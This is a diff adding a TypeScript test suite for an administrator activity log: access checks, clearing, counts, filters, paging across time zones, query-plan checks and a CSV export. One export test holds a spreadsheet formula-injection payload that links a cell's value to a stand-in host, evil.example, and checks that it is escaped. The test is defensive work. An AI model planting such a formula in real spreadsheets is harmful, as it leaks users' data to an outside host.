@@ -1,0 +1,296 @@
+import { parse } from "csv-parse/sync";
+import { eq } from "drizzle-orm";
+import { beforeAll, beforeEach, describe, expect, test } from "vitest";
+import { type ActivityFilter, everyEntry, formattedDetails, isDay } from "#app/domain/activity/activity.ts";
+import { activityFile } from "#app/domain/activity/activity-csv.server.ts";
+import { eventsByDay } from "#app/domain/activity/activity-days.server.ts";
+import { clearActivity, countActivity, listActivity, searchActivity } from "#app/domain/activity/activity-log.server.ts";
+import { cell } from "#app/domain/core/csv-cells.ts";
+import type { Member } from "#app/domain/core/member.ts";
+import { operation } from "#app/domain/core/operation.server.ts";
+import { db } from "#db/client.server.ts";
+import { activityLogs, users } from "#db/schema.ts";
+import { actorOf, addMember, temporaryDatabase } from "#tests/support/database.ts";
+
+temporaryDatabase();
+let chief: Member;
+let anna: Member;
+let ben: Member;
+beforeAll(async () => {
+  chief = await addMember({ role: "administrator", firstName: "Colette", lastName: "Moreau" });
+  anna = await addMember({ firstName: "Anna", lastName: "Núñez", email: "anna@press.example" });
+  ben = await addMember({ firstName: "Ben", lastName: "Abbott", email: "ben@kiln.example" });
+});
+beforeEach(() => void db().delete(activityLogs).run());
+
+type Entry = Partial<typeof activityLogs.$inferInsert>;
+const log = (entry: Entry = {}) =>
+  db()
+    .insert(activityLogs)
+    .values({ action: "test.act", description: "Somebody did something", resource: "other", ...entry })
+    .returning()
+    .get();
+/** Many entries in one transaction: each by itself would wait for the disk. */
+const logMany = (count: number, entryOf: (n: number) => Entry) =>
+  db().transaction(() => {
+    for (let n = 0; n < count; n++) log(entryOf(n));
+  });
+const found = (filter: Partial<ActivityFilter>, before: number | null = null, limit = 100) =>
+  searchActivity({ ...everyEntry, ...filter }, { before, limit });
+const idsOf = (filter: Partial<ActivityFilter>) => found(filter).entries.map(({ id }) => id);
+
+describe("who may read and clear it (spec §6)", () => {
+  test("members are refused 403 with the spec's sentence", () => {
+    expect(() => listActivity(anna, null)).toThrow("Failed to load activity logs. Administrator access may be required.");
+  });
+
+  test("a member cannot clear it, and that they tried is in it", async () => {
+    log();
+    await expect(clearActivity.perform(actorOf(anna), {})).rejects.toMatchObject({ status: 403 });
+    expect(listActivity(chief, null)).toMatchObject([
+      { description: "Anna Núñez tried to clear the activity log", success: false, userId: anna.id },
+      { description: "Somebody did something" },
+    ]);
+  });
+
+  test("clearing leaves one entry, which says who did it and how many there were", async () => {
+    logMany(1200, (n) => ({ success: n % 10 !== 0 }));
+    expect(await clearActivity.perform(actorOf(chief), {})).toEqual({ cleared: 1200 });
+    expect(listActivity(chief, null)).toMatchObject([
+      {
+        description: "Colette Moreau cleared the activity log of 1,200 entries",
+        details: '{"cleared":1200,"failed":120}',
+        user: { firstName: "Colette", lastName: "Moreau", email: chief.email },
+      },
+    ]);
+    expect(countActivity()).toEqual({ successful: 1, failed: 0, total: 1 });
+  });
+});
+
+describe("the summary", () => {
+  const counted = () => {
+    const rows = db().select({ success: activityLogs.success }).from(activityLogs).all();
+    const failed = rows.filter(({ success }) => !success).length;
+    return { successful: rows.length - failed, failed, total: rows.length };
+  };
+
+  test("is what counting would say, whoever wrote or deleted, and after what was rolled back", async () => {
+    logMany(20, (n) => ({ success: n % 4 !== 0 }));
+    expect(countActivity()).toEqual({ successful: 15, failed: 5, total: 20 });
+    db().delete(activityLogs).where(eq(activityLogs.success, false)).run();
+    expect(countActivity()).toEqual({ successful: 15, failed: 0, total: 15 });
+    const broken = operation({
+      log: { action: "test.break", resource: "other", attempt: "break" },
+      limit: "administration",
+      input: clearActivity.input,
+      run(tx, _me, _input, { note }) {
+        tx.delete(activityLogs).run();
+        note({ description: "never kept" });
+        throw new TypeError("a fault of ours");
+      },
+    });
+    await expect(broken.perform(actorOf(chief), {})).rejects.toThrow(TypeError);
+    expect(countActivity()).toEqual(counted());
+    expect(countActivity().total).toBe(15);
+  });
+});
+
+describe("the list", () => {
+  test("filters by resource, by result and by both", () => {
+    const [a, b, c] = [log({ resource: "auth" }), log({ resource: "auth", success: false }), log({ success: false })];
+    expect(idsOf({ resource: "auth" })).toEqual([b.id, a.id]);
+    expect(idsOf({ result: "failed" })).toEqual([c.id, b.id]);
+    expect(idsOf({ result: "successful" })).toEqual([a.id]);
+    expect(idsOf({ resource: "auth", result: "failed" })).toEqual([b.id]);
+  });
+
+  test("filters by member: an id, or part of a name or e-mail address, in any case and without accents", () => {
+    const [a, b] = [log({ userId: anna.id, resource: "auth", success: false }), log({ userId: ben.id })];
+    log();
+    for (const member of [String(anna.id), "nunez", "Anna Núñez", "Núñez, Anna", "ANNA@press"]) {
+      expect(idsOf({ member }), member).toEqual([a.id]);
+    }
+    expect(idsOf({ member: "an" })).toContain(a.id);
+    expect(idsOf({ member: ".example" })).toEqual(expect.arrayContaining([a.id, b.id]));
+    expect(idsOf({ member: "anna", resource: "auth", result: "failed" })).toEqual([a.id]);
+    expect(idsOf({ member: "anna", resource: "users" })).toEqual([]);
+    expect([idsOf({ member: "nobody like that" }), idsOf({ member: "%" }), idsOf({ member: "999999999999999" })]).toEqual([
+      [],
+      [],
+      [],
+    ]);
+  });
+
+  test("a name's part that many members have shows ten of them, and says so", async () => {
+    for (let n = 0; n < 11; n++) log({ userId: (await addMember({ lastName: `Kowalski ${n}` })).id });
+    expect(found({ member: "kowalski" })).toMatchObject({ areMoreMembers: true, entries: { length: 10 } });
+    expect(found({ member: "kowalski 10" })).toMatchObject({ areMoreMembers: false, entries: { length: 1 } });
+  });
+
+  test("days are those of US Eastern time, also where the clock is changed", () => {
+    const at = (moment: string) => log({ createdAt: new Date(moment) }).id;
+    // Midnight is 5:00 UTC in winter and 4:00 in summer; on November 1, 2026 the day has 25 hours.
+    const [before, first, last, after] = [
+      at("2026-11-01T03:59:59.999Z"),
+      at("2026-11-01T04:00:00Z"),
+      at("2026-11-02T04:59:59.999Z"),
+      at("2026-11-02T05:00:00Z"),
+    ];
+    expect(idsOf({ from: "2026-11-01", to: "2026-11-01" })).toEqual([last, first]);
+    expect(idsOf({ to: "2026-10-31" })).toEqual([before]);
+    expect(idsOf({ from: "2026-11-02" })).toEqual([after]);
+    expect(idsOf({ from: "2026-11-02", to: "2026-10-31" })).toEqual([]);
+    expect(["2026-02-29", "2026-13-01", "21.11.2026", "2026-1-1", ""].map(isDay)).toEqual(Array(5).fill(false));
+    expect(isDay("2024-02-29")).toBe(true);
+  });
+
+  test("page by page nothing comes twice and nothing is missed, in any filter, also for entries of the same moment", () => {
+    const now = new Date();
+    logMany(60, (n) => ({
+      userId: [anna.id, ben.id, null][n % 3] as number | null,
+      resource: n % 2 ? "auth" : "users",
+      success: n % 5 !== 0,
+      createdAt: n < 30 ? now : new Date(),
+    }));
+    for (const filter of [{}, { resource: "auth" }, { result: "failed" }, { member: "example" }] as const) {
+      const whole = idsOf(filter);
+      const seen: number[] = [];
+      for (let before: number | null = null, pages = 0; pages < 20; pages++) {
+        const page = found(filter, before, 7);
+        seen.push(...page.entries.map(({ id }) => id));
+        before = page.next;
+        if (before === null) break;
+      }
+      expect(seen, JSON.stringify(filter)).toEqual(whole);
+    }
+  });
+
+  test("'before' an entry that was cleared meanwhile is an empty page, no fault", async () => {
+    const old = log();
+    await clearActivity.perform(actorOf(chief), {});
+    expect(found({}, old.id).entries).toEqual([]);
+  });
+
+  test("the API's list has the newest 1,000, with the user or null and details as JSON text (spec §3)", () => {
+    logMany(1001, (n) => ({ userId: n % 2 ? anna.id : null, details: '{"n":1}' }));
+    const newest = listActivity(chief, null);
+    expect(newest).toHaveLength(1000);
+    expect(newest.slice(0, 2)).toMatchObject([
+      { user: null, userId: null, details: '{"n":1}' },
+      { user: { firstName: "Anna", lastName: "Núñez", email: anna.email }, userId: anna.id },
+    ]);
+    expect(listActivity(chief, newest.at(-1)?.id ?? 0)).toHaveLength(1);
+  });
+
+  test("a million entries: every query walks an index, reads no entry it does not show, and never sorts the log", () => {
+    const { $client } = db();
+    const prepare = $client.prepare.bind($client);
+    const statements: string[] = [];
+    $client.prepare = ((source: string) => {
+      statements.push(source);
+      return prepare(source);
+    }) as typeof $client.prepare;
+    const day = { from: "2026-11-01", to: "2026-11-30" };
+    const filters = [{}, { resource: "auth" }, { result: "failed" }, { resource: "auth", result: "failed" }] as const;
+    for (const filter of [...filters, { member: "2" }, { member: "2", ...filters[3] }]) found({ ...filter, ...day });
+    eventsByDay(new Date());
+    $client.prepare = prepare;
+    expect(statements).toHaveLength(7);
+    for (const statement of statements) {
+      const values = Array(statement.split("?").length - 1).fill(1);
+      const plan = (prepare(`explain query plan ${statement}`).all(...values) as { detail: string }[]).map(
+        ({ detail }) => detail,
+      );
+      const walks = plan.filter((step) => /activity_logs/.test(step) && !/INTEGER PRIMARY KEY/.test(step));
+      expect(walks.length, statement).toBeGreaterThan(0);
+      for (const walk of walks) expect(walk, statement).toMatch(/^SEARCH activity_logs USING COVERING INDEX activity_logs_/);
+      // The one sorting is of the hundred that were found; sorting by the last term is of entries of the same moment.
+      expect(plan.filter((step) => step === "USE TEMP B-TREE FOR ORDER BY").length, statement).toBeLessThanOrEqual(1);
+    }
+  });
+});
+
+describe("events a day", () => {
+  test("the last 30 days of US Eastern time, oldest first, days without events too", () => {
+    const now = new Date("2026-11-21T04:30:00Z");
+    for (const moment of ["2026-11-21T04:10:00Z", "2026-11-20T05:00:00Z", "2026-10-22T04:00:00Z"])
+      log({ createdAt: new Date(moment) });
+    log({ createdAt: new Date("2026-11-20T04:59:59Z"), success: false });
+    log({ createdAt: new Date("2026-10-22T03:59:59Z") });
+    const days = eventsByDay(now);
+    expect(days).toHaveLength(30);
+    expect(days.at(-1)).toEqual({ day: "2026-11-20", successful: 2, failed: 0 });
+    expect(days.at(-2)).toEqual({ day: "2026-11-19", successful: 0, failed: 1 });
+    expect(days[0]).toEqual({ day: "2026-10-22", successful: 1, failed: 0 });
+    expect(days.reduce((sum, { successful, failed }) => sum + successful + failed, 0)).toBe(4);
+  });
+});
+
+describe("the file for spreadsheet programs", () => {
+  const fileOf = async (filter: Partial<ActivityFilter> = {}) => {
+    const parts: string[] = [];
+    for await (const part of activityFile({ ...everyEntry, ...filter })) parts.push(part);
+    return parts.join("");
+  };
+
+  test("quotes, commas and line breaks come back as they were, with a column for each field", async () => {
+    const description = 'Ben "the kiln" Abbott,\r\nsigned in';
+    log({
+      userId: ben.id,
+      description,
+      details: '{"a":"b, \\"c\\""}',
+      resourceId: -3,
+      createdAt: new Date("2026-01-05T20:30:00Z"),
+    });
+    const text = await fileOf();
+    expect(text.startsWith("\ufeffId,") || text.startsWith('\ufeff"Id",')).toBe(true);
+    expect(parse(text, { bom: true, columns: true })).toEqual([
+      {
+        Id: expect.any(String),
+        "Time (UTC)": "2026-01-05T20:30:00.000Z",
+        "Time (US Eastern)": "2026-01-05 15:30:00",
+        Result: "successful",
+        Description: description,
+        "Error message": "",
+        Resource: "other",
+        "Resource id": "-3",
+        Action: "test.act",
+        "User id": String(ben.id),
+        Name: "Ben Abbott",
+        "E-mail": "ben@kiln.example",
+        "IP address": "",
+        Browser: "",
+        Details: '{"a":"b, \\"c\\""}',
+      },
+    ]);
+  });
+
+  test("text that a spreadsheet program would run as a formula stands behind an apostrophe", () => {
+    const attack = '=HYPERLINK("http://evil.example?"&A1,"ok")';
+    expect(cell(attack)).toBe(`"'=HYPERLINK(""http://evil.example?""&A1,""ok"")"`);
+    for (const text of ["+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1"]) expect(cell(text).slice(0, 2), text).toBe(`"'`);
+    expect([cell("Anna = Ben"), cell(-3), cell(null)]).toEqual(['"Anna = Ben"', "-3", ""]);
+  });
+
+  test("follows the filter, newest first, and ends after 10,000 entries", async () => {
+    logMany(10_100, (n) => ({ resource: n % 100 === 0 ? "auth" : "other", description: `n ${n}` }));
+    const lines = (text: string) => parse(text, { bom: true, columns: true }) as { Description: string }[];
+    const whole = lines(await fileOf());
+    expect([whole.length, whole[0]?.Description, whole.at(-1)?.Description]).toEqual([10_000, "n 10099", "n 100"]);
+    expect(lines(await fileOf({ resource: "auth" }))).toHaveLength(101);
+  });
+});
+
+test("details are shown a line for each field, and as they are where they are no JSON", () => {
+  expect(formattedDetails('{"city":{"from":null,"to":"Queens"}}')).toBe(
+    '{\n  "city": {\n    "from": null,\n    "to": "Queens"\n  }\n}',
+  );
+  expect(formattedDetails("by hand")).toBe("by hand");
+});
+
+test("entries of a member who is no longer stored stay, without a user", async () => {
+  const gone = await addMember();
+  log({ userId: gone.id });
+  db().delete(users).where(eq(users.id, gone.id)).run();
+  expect(listActivity(chief, null)).toMatchObject([{ userId: null, user: null }]);
+});
